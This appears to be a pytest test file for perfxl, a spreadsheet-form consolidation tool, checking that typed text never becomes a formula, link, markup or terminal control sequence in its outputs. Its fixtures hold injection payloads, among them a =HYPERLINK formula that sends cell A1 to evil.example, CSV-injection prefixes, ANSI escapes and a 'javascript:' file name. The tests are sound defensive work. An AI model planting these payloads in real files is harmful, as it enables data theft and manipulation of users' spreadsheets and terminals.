"""What people typed is text wherever perfxl writes it: never a formula, a link, markup or a command to the terminal."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import unquote, urlsplit
from xml.sax.saxutils import unescape

import docx
import openpyxl
import pytest
from forms import form

from perfxl import validation
from perfxl.errors import CapacityError
from perfxl.ledger import consolidate, read_ledger
from perfxl.reading import read_forms
from perfxl.report import as_text
from perfxl.report.document import as_json
from perfxl.season.diff import compare_collections, write_workbook
from perfxl.season.returning import return_forms
from perfxl.template import Issuance, build

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
TYPED = (FORMULA, "+1+1", "-2+3", "@SUM(1)", "＝1+1", "<b>&amp;]]>", "http://evil.example", "_x0041_", "'引号")
LONG = "长" * 40_000
# Excel writes what XML has no place for as _x001B_, and reads it back as the character itself.
CONTROL, MEANT = "停_x001B_[31m_x0007_止", "停\x1b[31m\x07止"
ODD_NAMES = ("=cmd'!A0.xlsx", "javascript:alert(1).xlsx", "[red]a&b<c>#%41.xlsx")


def workbook(project: str, *, purpose: str = "购置设备", **head: str) -> bytes:
    """A form with all that was ever taken for more than text, some of it put into the package past every writer."""
    rows = "\n".join(f" 产出指标 | 数量指标 | {text} | {text} | ≥ | 1 | 个" for text in TYPED)
    made = build(Issuance(), [form(rows, project=project, purpose="资金用途在此", total="900", **head)])
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as package, zipfile.ZipFile(result, "w") as changed:
        for part in package.infolist():
            content = package.read(part).replace("资金用途在此".encode(), purpose.encode())
            changed.writestr(part, content.replace("控制符在此".encode(), CONTROL.encode()))
    return result.getvalue()


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> SimpleNamespace:
    """Everything that perfxl makes of these forms."""
    home = tmp_path_factory.mktemp("outputs")
    for number, name in enumerate(ODD_NAMES):
        (home / name).write_bytes(workbook(FORMULA, unit_code=f"35330{number}", unit_name="=1+1"))
    (home / "长.xlsx").write_bytes(workbook("控制符在此", unit_code="353309", purpose=LONG))
    validated = validation.validate([home])
    ledger = consolidate([home])
    for suffix in ("xlsx", "csv", "json", "parquet"):
        ledger.write(home / f"总台账.{suffix}")
    return SimpleNamespace(
        home=home,
        validated=validated,
        ledger=ledger,
        text=as_text(validated.checked),
        report=json.loads(as_json(validated.checked)),
        marked=[one.copy for one in validation.mark_in(validated, home / "标注")],
        returned=return_forms(home / "总台账.xlsx", home / "退回", contact="=1+1"),
        diff=write_workbook(home / "比较.xlsx", compare_collections(ledger, consolidate([home / ODD_NAMES[0]]))),
    )


def cells(path: Path) -> Iterator[tuple[str, str, object]]:
    """Type, place and value of every cell that is not blank."""
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.data_type, f"{sheet.title}!{cell.coordinate}", cell.value


def targets(path: Path) -> Iterator[str]:
    """Where the workbook's links lead."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                text = package.read(name).decode()
                yield from re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text)


def test_what_looks_like_a_formula_is_text_in_every_workbook(made):
    for path in (made.home / "总台账.xlsx", made.diff, *made.marked):
        formulas = {str(value) for kind, _, value in cells(path) if kind == "f"}
        typed = [value for kind, _, value in cells(path) if kind != "f" and str(value).startswith("=")]

        assert FORMULA in typed
        assert not formulas & set(TYPED)
        assert not any("HYPERLINK" in each for each in formulas)


def test_the_ledger_holds_what_was_typed_character_by_character(made):
    descriptions = {row.description for row in read_ledger(made.home / "总台账.xlsx").indicators}

    assert set(TYPED) <= descriptions


def test_links_lead_to_the_files_that_came_and_nowhere_else(made):
    found = {unquote(unescape(target)) for target in targets(made.home / "总台账.xlsx")}

    assert found == {*ODD_NAMES, "长.xlsx"}
    assert not any(urlsplit(target).scheme for target in targets(made.home / "总台账.xlsx"))
    assert not [target for path in (made.diff, *made.marked) for target in targets(path)]


def test_a_csv_is_opened_by_excel_as_text(made):
    for path in made.home.glob("总台账-*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.reader(stream))
        for value in (value for row in rows for value in row):
            assert not value.startswith(("=", "+", "@", "＝", "\t", "\r", "\n"))
            assert not value.startswith("-") or re.fullmatch(r"-[\d.]+", value)
            assert not re.search(r"[\x00-\x08\x0b-\x1f]", value)
    described = next(made.home.glob("*指标明细.csv")).read_text(encoding="utf-8-sig")
    assert "'+1+1" in described
    assert "'＝1+1" in described


def test_json_holds_the_very_text(made):
    rows = json.loads((made.home / "总台账-指标明细.json").read_text(encoding="utf-8"))
    projects = {one["project"] for file in made.report["files"] for one in file["forms"]}

    assert set(TYPED) <= {row["绩效指标描述"] for row in rows}
    assert projects == {FORMULA, MEANT}


def test_no_report_can_steer_a_terminal(made):
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", made.text)


def test_what_xml_has_no_place_for_is_shown_and_told_at_its_cell(made):
    shown = {row.project for row in read_ledger(made.home / "总台账.xlsx").projects}
    told = [issue for checked in made.validated.checked for issue in checked.issues if "控制符" in issue.message]

    assert "停\\u001B[31m\\u0007止" in shown
    assert [(issue.file, issue.at.a1, issue.code) for issue in told] == [("长.xlsx", "B3", "S07")]


def test_a_text_that_no_cell_can_hold_is_told_at_its_cell_and_never_cut_in_silence(made):
    told = [issue for checked in made.validated.checked for issue in checked.issues if "40000 个字" in issue.message]
    (row,) = [row for row in read_ledger(made.home / "总台账.xlsx").projects if row.unit_code == "353309"]
    (source,) = [row for row in read_ledger(made.home / "总台账.xlsx").sources if row.file == "长.xlsx"]

    assert [(issue.file, issue.at.a1) for issue in told] == [("长.xlsx", "B5")]
    assert len(row.purpose) <= 32_767
    assert "40000 字" in row.purpose[-100:]
    assert "40000 个字" in source.reason
    assert next(row.purpose for row in made.ledger.projects if row.unit_code == "353309") == LONG


def test_a_new_form_is_not_made_of_a_text_that_no_cell_can_hold(tmp_path):
    (tmp_path / "长.xlsx").write_bytes(workbook("甲", purpose=LONG))

    with pytest.raises(CapacityError, match="40000 个字"):
        build(Issuance(), read_forms(tmp_path / "长.xlsx").forms)


def test_notes_and_messages_show_everything_as_text(made):
    folders = {path.parent for path in (made.home / "退回").rglob("短信.txt")}
    texts = [
        "\n".join(cell.text for table in docx.Document(str(path)).tables for row in table.rows for cell in row.cells)
        + "\n".join(paragraph.text for paragraph in docx.Document(str(path)).paragraphs)
        for path in (made.home / "退回").rglob("退回说明.docx")
    ]
    with zipfile.ZipFile(next((made.home / "退回").rglob("退回说明.docx"))) as package:
        document = package.read("word/document.xml").decode()

    assert len(folders) == len(texts) == 4
    assert any("=HYPERLINK" in text for text in texts)
    assert not any(re.search(r"[\x00-\x08\x0b-\x1f]", text) for text in texts)
    assert "<w:hyperlink" not in document
    assert "<w:fldSimple" not in document
    assert "<w:instrText" not in document
